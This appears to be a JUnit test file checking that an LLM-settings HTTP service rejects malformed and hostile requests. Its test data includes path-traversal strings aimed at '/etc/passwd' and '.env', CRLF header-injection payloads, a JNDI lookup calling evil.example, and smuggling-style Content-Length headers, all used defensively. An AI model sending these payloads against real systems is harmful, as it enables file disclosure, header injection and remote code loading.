package io.carol.llm.http;

import static io.carol.llm.testing.ProblemCheck.assertHeaders;
import static io.carol.llm.testing.ProblemCheck.assertProblem;
import static io.carol.llm.testing.Variants.each;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.carol.llm.testing.Api;
import io.carol.llm.testing.LogCapture;
import io.carol.llm.testing.RawHttp;
import io.carol.llm.testing.Reply;
import io.carol.llm.testing.TestService;
import io.carol.llm.testing.Words;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.AutoClose;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Requests that lead nowhere, and what every answer has in common. */
final class RoutingProblemsTest {
  @AutoClose private static TestService service;
  private static String authorization;

  @BeforeAll
  static void start() {
    service = TestService.start();
    authorization = "Authorization: Bearer " + TestService.identity().token("user") + "\r\n";
    service.as("user").put("{\"provider\":\"anthropic\",\"model\":\"m\"}");
  }

  /** One path has one spelling: a proxy that decides by the path must not be got around. */
  @ParameterizedTest
  @Words(
      """
      /api /api/ /api/settings /api/settings/llm/ /api/settings/llm/user /api/settings/llm.json
      /api/settings/llms /api/settings/LLM /API/settings/llm //api/settings/llm
      /api//settings/llm /api/settings/llm// /./api/settings/llm /api/./settings/llm
      /api/settings/llm/. /api/settings/x/../llm /x/../api/settings/llm /../api/settings/llm
      /api/%2e/settings/llm /x/%2e%2e/api/settings/llm /api%2fsettings/llm /api%2Fsettings%2Fllm
      /%61pi/settings/llm /api/settings/ll%6d /api/settings/llm;a=b /api;a=b/settings/llm
      /api/settings/llm%3Ba /api/settings/llm%00 /api/settings/llm%0d%0aX-Injected:%20yes
      /api/settings/llm%3Fa /api/settings/llm%20 /api/settings/%C3%A9 /api/settings/\u00e9
      http://localhost//api/settings/llm http://localhost/api/settings/llm/ api/settings/llm *
      localhost localhost:443 /observe/health/live /observe/metrics /openapi/ /openapi/ui
      /openapi.yaml /actuator /.env /../../etc/passwd
      """)
  void thereIsNothingAtAnyOtherPath(String path) {
    for (String method : List.of("GET", "DELETE")) {
      assertProblem(404, "not_found", send(method, path));
    }
    assertEquals(200, service.as("user").get().status(), "the settings are untouched");
  }

  /** All of them are on the class path, as the page's files are. */
  @ParameterizedTest
  @Words(
      """
      /META-INF/MANIFEST.MF /io/carol/llm/Main.class /sql/statements.yaml /openapi/openapi.yaml
      /web/index.html /assets/openapi/openapi.yaml /../openapi/openapi.yaml
      /assets/../../openapi/openapi.yaml /assets/..%2f..%2fopenapi/openapi.yaml
      /assets/%2e%2e/%2e%2e/openapi/openapi.yaml /%2e%2e/openapi/openapi.yaml
      /..%5copenapi/openapi.yaml /....//openapi/openapi.yaml /..;/openapi/openapi.yaml
      /.%00./openapi/openapi.yaml /openapi/openapi.yaml%00.js /openapi/openapi.yaml;.js
      /openapi/openapi.yaml%3f.js /assets/.. /assets/. //openapi/openapi.yaml
      http://localhost/../openapi/openapi.yaml
      """)
  void filesThatAreNotThePagesAreNotServed(String path) {
    try (RawHttp raw = new RawHttp(service.connect())) {
      raw.send("GET " + path + " HTTP/1.1\r\nHost: a\r\nAccept: text/html, */*\r\n\r\n");
      assertProblem(404, "not_found", raw.read());
    }
  }

  @ParameterizedTest
  @Words("POST PATCH OPTIONS TRACE CONNECT PROPFIND QUERY FOO !#$%&'*+-.^_`|~09AZ")
  void everyOtherMethodIsRefused(String method) {
    Reply reply = send(method, Api.PATH);
    assertProblem(405, "method_not_allowed", reply);
    assertEquals("GET, HEAD, PUT, DELETE", reply.header("allow"));
    Api.CONTRACT.check(method, Api.PATH, reply.status(), reply.headers(), reply.body());
    reply = send(method, "/openapi");
    assertProblem(405, "method_not_allowed", reply);
    assertEquals("GET, HEAD", reply.header("allow"));
  }

  @TestFactory
  Stream<DynamicTest> answersToHeadCarryNoBody() {
    return each(
        request -> {
          try (RawHttp raw = new RawHttp(service.connect())) {
            raw.send("HEAD " + request + "\r\n\r\n").send("HEAD /x HTTP/1.1\r\nHost: a\r\n\r\n");
            Reply reply = raw.readHead();
            assertHeaders(reply.status(), reply);
            assertTrue(reply.status() >= 400);
            if (reply.status() == 405) {
              assertFalse(reply.header("allow").isEmpty());
            }
            if (reply.header("connection").equals("close")) {
              assertEquals(List.of(), raw.readAll(), "bytes behind the headers");
            } else {
              assertHeaders(404, raw.readHead());
            }
          }
        },
        Api.PATH + " HTTP/1.1\r\nHost: a",
        Api.PATH + " HTTP/1.1\r\nHost: a\r\n" + "Authorization: Bearer x",
        "/nowhere HTTP/1.1\r\nHost: a",
        "/api//settings/llm HTTP/1.1\r\nHost: a",
        "/nowhere HTTP/1.1\r\nHost: a\r\nContent-Length: 100000\r\nExpect: 100-continue",
        "/nowhere HTTP/1.1\r\nHost: a\r\nContent-Length: 5, 5",
        "/nowhere HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nContent-Encoding: gzip",
        "/nowhere HTTP/1.1\r\nHost: a\r\nContent-Length: 99999999999",
        "/nowhere HTTP/1.1",
        "/nowhere HTTP/1.1\r\nno colon");
  }

  @Test
  void theFormatOfTheContractIsNamedInAccept() {
    assertProblem(400, "bad_request", send("GET", "/openapi?format=json"));
    assertEquals(200, send("GET", "/openapi?other=json").status());
  }

  @Test
  void queriesChangeNothing() {
    assertEquals(200, send("GET", Api.PATH + "?provider=x&a=1;b=2&c").status());
  }

  @Test
  void everyAnswerNamesItsRequest() {
    Api user = service.as("user");
    assertNotEquals(user.get().header("x-request-id"), user.get().header("x-request-id"));
    for (String harmless : List.of("a", "A.b_c-9", "x".repeat(64))) {
      assertEquals(harmless, user.get("X-Request-Id", harmless).header("x-request-id"));
      Reply problem = service.anonymous().get("X-Request-Id", harmless);
      assertProblem(401, "unauthenticated", problem);
      assertEquals(harmless, problem.text("requestId"));
    }
  }

  @ParameterizedTest
  @Words(
      """
      a,b <script> "quoted" a/../b a=b ${jndi:ldap://evil.example/a} \u00e9
      %0d%0aSet-Cookie:%20a=b
      xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx
      """)
  @ValueSource(strings = {"", "a b", "a\tb"})
  void aRequestIdThatCouldDoHarmIsNotTakenOver(String id) {
    try (RawHttp raw = new RawHttp(service.connect())) {
      raw.send("GET /nowhere HTTP/1.1\r\nHost: a\r\nX-Request-Id: " + id + "\r\n\r\n");
      Reply reply = raw.read();
      assertProblem(404, "not_found", reply);
      assertTrue(reply.header("x-request-id").matches("[0-9a-f]{16}"), reply::toString);
    }
  }

  @Test
  void aFailureOfTheServiceIsExplainedInTheLogAlone() {
    try (TestService broken = TestService.start();
        LogCapture log = new LogCapture()) {
      broken.as("user").put("{\"provider\":\"anthropic\",\"model\":\"m\"}");
      broken.sql(
          "CREATE FUNCTION fail() RETURNS boolean AS $$ BEGIN"
              + " RAISE EXCEPTION 'the disk of the moon is full'; END $$ LANGUAGE plpgsql");
      broken.sql("ALTER TABLE user_llm_credentials RENAME TO away");
      broken.sql("CREATE VIEW user_llm_credentials AS SELECT * FROM away WHERE fail()");
      Reply reply = broken.as("user").get();
      assertProblem(500, "internal", reply);
      assertFalse(reply.body().contains("moon"));
      assertFalse(reply.body().contains("Exception"));
      String id = reply.text("requestId");
      assertEquals(1, log.linesWith("requestId=" + id + " ").size());
      assertTrue(log.linesWith("Request " + id).getFirst().contains("internal"));
      assertFalse(log.linesWith("the disk of the moon is full").isEmpty());
    }
  }

  @Test
  void aTableThatIsNotAsExpectedIsADatabaseNotReadyYet() {
    try (TestService broken = TestService.start()) {
      broken.sql("ALTER TABLE user_llm_credentials DROP COLUMN version");
      Reply reply = broken.as("user").get();
      assertProblem(503, "database_unavailable", reply);
      assertTrue(Integer.parseInt(reply.header("retry-after")) > 0);
      assertFalse(reply.body().contains("version"));
    }
  }

  private static Reply send(String method, String target) {
    try (RawHttp raw = new RawHttp(service.connect())) {
      return raw.send(
              "%s %s HTTP/1.1\r\nHost: localhost\r\n%s\r\n"
                  .formatted(method, target, authorization))
          .read();
    }
  }
}
